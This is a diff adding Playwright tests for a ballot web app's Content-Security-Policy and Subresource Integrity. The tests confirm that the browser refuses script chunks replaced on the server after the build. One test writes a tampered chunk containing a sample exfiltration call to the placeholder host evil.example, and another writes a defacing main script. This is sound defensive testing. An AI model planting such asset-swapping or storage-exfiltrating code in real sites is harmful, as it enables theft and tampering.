@@ -1,0 +1,89 @@
+// The web app under its Content-Security-Policy and Subresource Integrity, in Chromium: it
+// loads and works (its views, its WebAssembly ballot cryptography) with no policy violation
+// reported; and an asset swapped on the server after the build — the attack SRI stops — is
+// refused by the browser, whether it is the main script or a chunk loaded later.
+import assert from 'node:assert/strict';
+import { readdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { after, before, test } from 'node:test';
+import type { Page } from 'playwright-core';
+import { MODEL_STATUTE } from '../../src/constitution/model-statute.js';
+import { TestOrg } from '../e2e/client.js';
+import { openBrowserWorld, type BrowserWorld } from './harness.js';
+
+let world: BrowserWorld;
+
+before(async () => {
+  world = await openBrowserWorld({ name: 'release' });
+  await TestOrg.found(world.server.url, { constitution: MODEL_STATUTE });
+});
+
+after(async () => world?.close());
+
+/** A page that records what the console and the policy report: violations are also sent as DOM events. */
+async function watchedPage(): Promise<{ page: Page; console: string[]; violations: () => Promise<string[]> }> {
+  const page = await world.newPage();
+  const messages: string[] = [];
+  page.on('console', (m) => void messages.push(`${m.type()}: ${m.text()}`));
+  page.on('pageerror', (e) => void messages.push(`pageerror: ${e.message}`));
+  await page.addInitScript(() => {
+    const seen: string[] = [];
+    (globalThis as unknown as { __violations: string[] }).__violations = seen;
+    document.addEventListener('securitypolicyviolation', (e) => void seen.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}:${e.columnNumber}`));
+  });
+  return { page, console: messages, violations: () => page.evaluate(() => (globalThis as unknown as { __violations: string[] }).__violations) };
+}
+
+const chunk = (prefix: string) => readdirSync(join(world.webDir, 'assets')).find((f) => f.startsWith(prefix) && f.endsWith('.js'))!;
+
+test('the app loads and works under its CSP: views render, the ballot cryptography compiles its WebAssembly, nothing refused but the eval probe of zod', { timeout: 120_000 }, async () => {
+  const { page, console: messages, violations } = await watchedPage();
+  const response = await page.goto(`${world.server.url}/keys`);
+  assert.match(response?.headers()['content-security-policy'] ?? '', /frame-ancestors 'none'/);
+  await page.getByRole('heading', { name: 'Enroll this device' }).waitFor();
+  // The record read from the API and drawn by the app: the founding is there.
+  await page.goto(`${world.server.url}/`);
+  await page.getByText('Test Union').first().waitFor();
+  // The lazy ballot chunk, as the Delegate view loads it: checked by the import map, then libsodium's WebAssembly.
+  const loaded = await page.evaluate(async (url) => {
+    const m = (await import(url)) as { init: () => Promise<void>; encrypt: unknown };
+    await m.init();
+    return typeof m.encrypt;
+  }, `/assets/${chunk('secret-crypto')}`);
+  assert.equal(loaded, 'function');
+  // zod (v4) probes once whether `new Function('')` is allowed, to choose its compiled parsers;
+  // the policy refuses it (the report below) and zod parses without them. Nothing else may be refused.
+  const refused = await violations();
+  assert.ok(refused.every((v) => /^script-src eval http:\/\/127\.0\.0\.1:\d+\/assets\/[\w.-]+\.js:/.test(v)), refused.join('\n'));
+  assert.ok(refused.length <= 1, refused.join('\n'));
+  assert.deepEqual(messages.filter((m) => /Content Security Policy|integrity|Refused/i.test(m)), []);
+});
+
+test('a lazy chunk swapped on the server after the build is refused by the browser (its integrity does not match)', { timeout: 60_000 }, async () => {
+  const name = chunk('secret-crypto');
+  writeFileSync(join(world.webDir, 'assets', name), 'export async function init() { fetch("https://evil.example/?k=" + localStorage.length); }\nexport const encrypt = () => 0;\n');
+  const { page, console: messages } = await watchedPage();
+  await page.goto(`${world.server.url}/keys`);
+  await page.getByRole('heading', { name: 'Enroll this device' }).waitFor();
+  const outcome = await page.evaluate(async (url) => {
+    try {
+      await import(url);
+      return 'loaded';
+    } catch (error) {
+      return `refused: ${(error as Error).message}`;
+    }
+  }, `/assets/${name}`);
+  assert.match(outcome, /^refused/);
+  assert.ok(messages.some((m) => /integrity/i.test(m)), messages.join('\n'));
+});
+
+test('a main script swapped on the server after the build is refused: the app does not run', { timeout: 60_000 }, async () => {
+  const name = chunk('index-');
+  writeFileSync(join(world.webDir, 'assets', name), 'document.getElementById("app").textContent = "Vote here for the chair!";\n');
+  const { page, console: messages } = await watchedPage();
+  await page.goto(`${world.server.url}/`);
+  await page.waitForLoadState('load');
+  await page.waitForTimeout(500);
+  assert.equal(await page.locator('#app').textContent(), '');
+  assert.ok(messages.some((m) => /integrity/i.test(m)), messages.join('\n'));
+});
